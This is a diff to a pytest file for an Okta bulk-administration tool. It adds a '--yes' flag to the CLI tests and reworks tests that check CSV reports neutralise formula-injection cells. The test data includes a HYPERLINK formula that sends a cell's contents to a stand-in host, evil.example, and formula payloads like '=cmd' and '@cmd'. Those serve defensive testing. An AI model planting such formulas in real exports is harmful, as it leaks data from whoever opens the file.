@@ -11,7 +11,7 @@ from pathlib import Path
 
 import pytest
 
-from oktakit import InvalidArgumentError, OktaClient
+from oktakit import BadRequestError, InvalidArgumentError, OktaClient
 from oktakit.bulk import MAX_CONCURRENCY
 from oktakit.testing import OktaSimulator
 
@@ -77,7 +77,7 @@ async def test_the_maximum_concurrency_itself_runs(okta: OktaClient, okta_sim: O
 
 @pytest.mark.parametrize("value", ["0", str(MAX_CONCURRENCY + 1), "1e3", "٣"])
 async def test_the_cli_refuses_a_concurrency_outside_its_range(okta_sim: OktaSimulator, value: str) -> None:
-    code, _, err = await run_cli(okta_sim, "bulk", "suspend", "--ids", "-", "--concurrency", value)
+    code, _, err = await run_cli(okta_sim, "bulk", "suspend", "--yes", "--ids", "-", "--concurrency", value)
 
     assert 2 == code
     assert f"from 1 to {MAX_CONCURRENCY}" in err
@@ -90,7 +90,7 @@ async def test_an_ids_file_that_is_not_utf8_is_refused_before_any_request(
     ids_file = tmp_path / "ids.txt"
     ids_file.write_bytes(f"{ids[0]}\n{ids[1]}\nm\xfcller@example.com\n".encode("latin-1"))
 
-    code, _, err = await run_cli(okta_sim, "bulk", "suspend", "--ids", str(ids_file))
+    code, _, err = await run_cli(okta_sim, "bulk", "suspend", "--yes", "--ids", str(ids_file))
 
     assert 2 == code
     assert "line 3 is not UTF-8" in err
@@ -105,6 +105,7 @@ async def test_ids_on_stdin_that_are_not_utf8_stop_the_run_with_exit_2(okta_sim:
         okta_sim,
         "bulk",
         "suspend",
+        "--yes",
         "--ids",
         "-",
         "--no-progress",
@@ -130,7 +131,7 @@ async def test_a_csv_that_cannot_be_read_is_refused_before_any_request(
     table = tmp_path / "changes.csv"
     table.write_bytes(content)
 
-    code, _, err = await run_cli(okta_sim, "bulk", "update", "--csv", str(table))
+    code, _, err = await run_cli(okta_sim, "bulk", "update", "--yes", "--csv", str(table))
 
     assert 2 == code, err
     assert message in err
@@ -165,9 +166,11 @@ async def test_an_ids_path_that_is_a_directory_or_missing_is_exit_2(
     okta_sim: OktaSimulator, tmp_path: Path
 ) -> None:
     results = [
-        await run_cli(okta_sim, "bulk", "suspend", "--ids", str(tmp_path)),
-        await run_cli(okta_sim, "bulk", "suspend", "--ids", str(tmp_path / "missing.txt")),
-        await run_cli(okta_sim, "bulk", "suspend", "--ids", "-", "--journal", str(tmp_path / "a\udcffb")),
+        await run_cli(okta_sim, "bulk", "suspend", "--yes", "--ids", str(tmp_path)),
+        await run_cli(okta_sim, "bulk", "suspend", "--yes", "--ids", str(tmp_path / "missing.txt")),
+        await run_cli(
+            okta_sim, "bulk", "suspend", "--yes", "--ids", "-", "--journal", str(tmp_path / "a\udcffb")
+        ),
     ]
 
     assert [2, 2, 0] == [code for code, _, _ in results], results
@@ -187,7 +190,8 @@ async def test_report_cells_that_a_spreadsheet_would_run_are_neutralised(
 
     rows = list(csv.DictReader(path.read_text().splitlines()))
     assert ["'=1+2", "'+SUM(A1)", "'-2+3", "'@cmd", "plain", "a=b"] == [row["id"] for row in rows]
-    assert {'\'=HYPERLINK("http://evil.example/?"&A1,"click")'} == {row["error_message"] for row in rows}
+    assert ["'=1+2", "'+SUM(A1)", "'-2+3", "'@cmd", "plain", "a=b"] == [row["login"] for row in rows]
+    assert {'RuntimeError: =HYPERLINK("http://evil.example/?"&A1,"click")'} == {row["detail"] for row in rows}
     cells = [cell for row in rows for cell in row.values()]
     assert not [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]
     # The data itself is unchanged: the JSON lines and the report object keep the text as it was.
@@ -197,11 +201,14 @@ async def test_report_cells_that_a_spreadsheet_would_run_are_neutralised(
 
 
 async def test_tab_and_carriage_return_starts_are_neutralised_too(okta: OktaClient, tmp_path: Path) -> None:
+    # Items are stripped of blanks, so the cells that can start with a tab or a carriage return
+    # are what a server said: here the error code of a hostile answer.
     async def fails(item: str) -> None:
-        raise RuntimeError("\t=cmd" if item == "t" else "\r=cmd")
+        code = "\t=cmd" if item == "t" else "\r=cmd"
+        raise BadRequestError(status=400, method="POST", url="https://x.example/", error_code=code)
 
     report = await okta.bulk(fails, ["t", "r"], progress=False)
     report.to_csv(tmp_path / "r.csv")
 
     text = io.StringIO((tmp_path / "r.csv").read_bytes().decode(), newline="")
-    assert ["'\t=cmd", "'\r=cmd"] == [row["error_message"] for row in csv.DictReader(text)]
+    assert ["'\t=cmd", "'\r=cmd"] == [row["error_code"] for row in csv.DictReader(text)]
